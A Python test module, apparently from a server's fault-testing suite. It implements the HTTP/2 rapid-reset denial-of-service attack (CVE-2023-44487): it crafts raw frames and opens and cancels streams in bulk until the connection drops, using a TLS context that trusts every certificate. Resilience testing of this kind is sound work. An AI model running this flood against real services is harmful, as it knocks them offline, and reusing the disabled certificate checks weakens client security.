"""HTTP/2 streams that are opened and cancelled, over and over (CVE-2023-44487).

Our server does not support HTTP/2, and refuses the first bytes. A proxy may.
"""

import asyncio
import ssl
import struct

from tests.faults.attacks.target import Attack, Target, ignore

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS = 1, 3, 4
END_OF_REQUEST = 0x5
"""The flags of a frame of header fields that is the whole request (RFC 9113, 6.2)."""
GET_BY_HTTPS = bytes((0x82, 0x87))
"""``:method GET`` and ``:scheme https`` (RFC 7541, appendix A)."""
STREAMS_A_WRITE = 500


def frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0) -> bytes:
    """Return a frame of HTTP/2."""
    length = len(payload)
    head = struct.pack(">BHBBI", length >> 16, length & 0xFFFF, kind, flags, stream)
    return head + payload


def fields(path: str, place: str) -> bytes:
    """Return the header fields of a request."""
    name, way = place.encode(), path.encode()
    path_field = bytes((0x04, len(way))) + way
    return GET_BY_HTTPS + path_field + bytes((0x01, len(name))) + name


def cancelled(block: bytes, first: int) -> bytes:
    """Return requests on *STREAMS_A_WRITE* streams, each cancelled at once."""
    cancel = struct.pack(">I", 8)
    return b"".join(
        frame(HEADERS, stream, block, END_OF_REQUEST) + frame(RESET, stream, cancel)
        for stream in range(first, first + 2 * STREAMS_A_WRITE, 2)
    )


async def cancelled_streams(target: Target) -> None:
    """Send requests and cancel each at once, until the connection is closed."""
    server = target.server
    reader, writer = await asyncio.open_connection(
        server.host,
        server.port,
        local_addr=(target.by, 0),
        ssl=http2() if server.tls else None,
    )
    hearing = asyncio.create_task(ignore(reader))
    writer.write(PREFACE + frame(SETTINGS, 0))
    block, first = fields(f"/games/{target.game}", server.place), 1
    try:
        while not hearing.done():
            writer.write(cancelled(block, first))
            await writer.drain()
            first += 2 * STREAMS_A_WRITE
            target.did["cancelled"] += STREAMS_A_WRITE
            await asyncio.sleep(0)
    finally:
        writer.transport.abort()


def http2() -> ssl.SSLContext:
    """Return a context that offers HTTP/2, and trusts every certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


STREAMS = {"cancelled-streams": Attack(cancelled_streams, 8, 1000)}
